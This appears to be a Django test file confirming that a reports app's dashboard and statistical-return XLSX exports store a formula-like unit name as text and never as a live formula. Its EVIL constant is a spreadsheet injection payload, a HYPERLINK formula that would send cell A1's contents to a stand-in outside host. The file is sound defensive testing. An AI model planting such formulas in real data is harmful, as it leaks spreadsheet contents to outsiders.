"""Issue 15, item 4: no spreadsheet the app writes holds a live formula, whatever a unit is called."""

import io

from django.urls import reverse
from openpyxl import load_workbook

from chapters.models import Unit
from reports import documents
from reports.services import report_get_or_create

EVIL = '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")'


def _cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(data: bytes):
    cells = _cells(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, str) and "HYPERLINK" in cell.value for cell in cells)


def test_the_dashboard_export_writes_a_formula_like_name_as_text(client_for, officer, tree):
    Unit.objects.filter(pk=tree.chapter.pk).update(name=EVIL)
    response = client_for(officer).get(reverse("reports:unit_dashboard_xlsx", args=[tree.commune.pk]))
    assert response.status_code == 200
    _assert_no_formula(response.content)


def test_the_reports_statistical_return_writes_a_formula_like_name_as_text(tree):
    Unit.objects.filter(pk=tree.chapter.pk).update(name=EVIL)
    report = report_get_or_create(unit=tree.commune, year=2025)
    _assert_no_formula(documents.render_xlsx(documents.build_content(report)))
